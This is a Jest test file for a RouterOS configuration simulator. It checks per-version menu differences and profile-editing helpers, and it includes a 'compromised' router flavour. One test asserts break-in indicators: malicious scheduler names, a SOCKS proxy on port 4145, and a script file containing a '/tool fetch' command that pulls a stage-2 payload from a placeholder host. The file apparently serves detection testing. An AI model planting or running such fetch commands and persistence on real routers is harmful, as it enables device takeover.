import { describe, expect, it } from '@jest/globals';
import {
  type Attributes,
  compromised,
  type ProfileName,
  profiles,
  type RouterProfile,
} from '../support/routeros-simulator/index.js';

const NOW = new Date('2026-11-24T10:00:00Z');
const NAMES = Object.keys(profiles) as ProfileName[];
const first = (profile: RouterProfile, path: string): Attributes => profile.read(path, NOW)[0] ?? {};
const service = (profile: RouterProfile, name: string) =>
  profile.read('/ip/service', NOW).find((row) => row.name === name) ?? {};

describe('releases', () => {
  it.each(NAMES)('%s fills every menu of its own', (name) => {
    const rows = (Object.values(profiles[name]) as RouterProfile[]).flatMap((flavour) =>
      flavour.paths.flatMap((path) => flavour.read(path, NOW)),
    );
    expect(rows.length).toBeGreaterThan(300);
    for (const row of rows) {
      expect(Object.keys(row).length).toBeGreaterThan(0);
      expect(JSON.stringify(row)).not.toMatch(/undefined|NaN|:" /);
    }
  });

  it.each(NAMES)('%s has unique ids in every list', (name) => {
    const broken = profiles[name].compromised;
    for (const path of broken.paths) {
      const ids = broken.read(path, NOW).flatMap((row) => row['.id'] ?? []);
      expect([path, new Set(ids).size]).toEqual([path, ids.length]);
    }
  });

  it('spell the version, the architecture and the board as the router does', () => {
    expect(first(profiles.v6_49.factory, '/system/resource')).toMatchObject({
      version: '6.49.6 (stable)',
      'build-time': 'Apr/07/2022 17:53:31',
      'architecture-name': 'mipsbe',
      'board-name': 'RB750GL',
    });
    expect(first(profiles.v7_16.factory, '/system/resource')).toMatchObject({
      version: '7.16.2 (stable)',
      'build-time': '2024-11-29 14:17:45',
      'architecture-name': 'arm64',
    });
  });

  it('differ where RouterOS changed', () => {
    const { v6_49, v7_15, v7_16, v7_22, v7_24 } = profiles;
    expect(first(v6_49.factory, '/ip/arp')).toHaveProperty('DHCP');
    expect(first(v7_15.factory, '/ip/arp')).toMatchObject({ dhcp: 'true', status: 'reachable' });
    expect(service(v7_22.factory, 'ssh')).toHaveProperty('address');
    expect(service(v7_24.factory, 'ssh')).not.toHaveProperty('address');
    expect(service(v7_24.factory, 'ssh')).toHaveProperty('available-from');
    expect(service(v6_49.factory, 'ssh')).not.toHaveProperty('vrf');
    expect(v7_16.factory.read('/ip/service', NOW).filter((row) => row.dynamic === 'true')).toEqual([]);
    expect(v7_22.factory.read('/ip/service', NOW).filter((row) => row.dynamic === 'true')).not.toEqual([]);
    expect(v6_49.factory.has('/system/device-mode')).toBe(false);
    expect(first(v7_16.factory, '/system/device-mode').mode).toBe('enterprise');
    expect(first(v7_22.factory, '/system/device-mode').mode).toBe('advanced');
    expect(first(v7_16.factory, '/ip/ssh')).toHaveProperty('allow-none-crypto');
    expect(first(v7_22.factory, '/ip/ssh')).not.toHaveProperty('allow-none-crypto');
    expect(first(v7_22.factory, '/ip/ssh')).toHaveProperty('ciphers');
    expect(v7_24.factory.has('/system/routerboard')).toBe(false);
    expect(first(v7_15.factory, '/file')).toHaveProperty('last-modified');
    expect(first(v6_49.factory, '/file')['creation-time']).toBe('jan/01/1970 02:00:03');
    expect(v6_49.factory.has('/interface/wireguard/peers')).toBe(false);
  });

  it('keep time in the hardened flavour, by local clock and offset', () => {
    expect(first(profiles.v6_49.hardened, '/system/clock')).toMatchObject({
      time: '12:00:00',
      date: 'nov/24/2026',
      'gmt-offset': '+02:00',
    });
    expect(first(profiles.v7_24.hardened, '/system/clock').date).toBe('2026-11-24');
    expect(first(profiles.v7_24.factory, '/system/clock').date).toBe('1970-01-02');
  });

  it('put the traces of a break-in on any router', () => {
    const broken = compromised(profiles.v7_16.factory);
    expect(broken.name).toBe('RouterOS 7.16.2 compromised');
    expect(first(broken, '/system/device-mode')).toMatchObject({ flagged: 'true', mode: 'enterprise' });
    expect(first(broken, '/system/identity').name).toBe('MikroTik');
  });

  it.each(NAMES)('%s holds published indicators only when compromised', (name) => {
    const { hardened, compromised: broken } = profiles[name];
    const names = (profile: RouterProfile, path: string) => profile.read(path, NOW).map((row) => row.name);
    expect(names(broken, '/system/scheduler')).toEqual(expect.arrayContaining(['U6', 'netupd', 'cfg-v5']));
    expect(names(hardened, '/system/scheduler')).toEqual(['weekly-backup']);
    expect(first(broken, '/ip/socks')).toMatchObject({ enabled: 'true', port: '4145' });
    expect(first(hardened, '/ip/socks').enabled).toBe('false');
    const stage = broken.read('/file', NOW).find((row) => row.name === 'mt_setup.rsc');
    expect(stage?.contents).toBe('/tool fetch url=http://198.51.100.66/stage2\r\n');
  });
});

describe('changing a profile', () => {
  const base = profiles.v7_24.hardened;

  it('merges settings, replaces lists and leaves the original alone', () => {
    const changed = base
      .with('/ip/dns', { 'allow-remote-requests': 'true' })
      .with('/ip/arp', [{ address: '127.0.0.9' }]);
    expect(first(changed, '/ip/dns')).toMatchObject({ 'allow-remote-requests': 'true', servers: '192.0.2.53' });
    expect(changed.read('/ip/arp', NOW)).toEqual([{ '.id': '*1', address: '127.0.0.9' }]);
    expect(first(base, '/ip/dns')['allow-remote-requests']).toBe('false');
    expect(() => base.with('/ip/arp', { address: '192.0.2.1' })).toThrow(/is a list/);
  });

  it('keeps a live menu alive under a change', () => {
    const changed = base.with('/system/clock', { 'gmt-offset': '+05:00' });
    expect(first(changed, '/system/clock')).toMatchObject({ time: '12:00:00', 'gmt-offset': '+05:00' });
  });

  it('adds, prepends and edits rows', () => {
    const changed = base
      .adding('/ip/dhcp-server/lease', { address: '127.77.0.1', status: 'bound' })
      .editing('/ip/service', { name: 'telnet' }, { disabled: 'false' });
    expect(changed.read('/ip/dhcp-server/lease', NOW).at(-1)).toMatchObject({ address: '127.77.0.1' });
    expect(service(changed, 'telnet').disabled).toBe('false');
    expect(service(changed, 'ftp').disabled).toBe('true');
    expect(first(base.prepending('/ip/firewall/filter', { chain: 'x' }), '/ip/firewall/filter').chain).toBe('x');
  });

  it('takes a menu away with all below it', () => {
    const changed = base.without('/ip/socks');
    expect(changed.has('/ip/socks/access')).toBe(false);
    expect(changed.has('/ip/ssh')).toBe(true);
  });

  it('grants the default groups what they have on a router', () => {
    expect([...base.policiesOf('siteward')].sort()).toEqual(['api', 'read']);
    expect(base.policiesOf('read').has('sensitive')).toBe(true);
    expect(base.policiesOf('read').has('write')).toBe(false);
    expect(base.policiesOf('full').has('policy')).toBe(true);
    expect(base.policiesOf('nobody').size).toBe(0);
  });
});
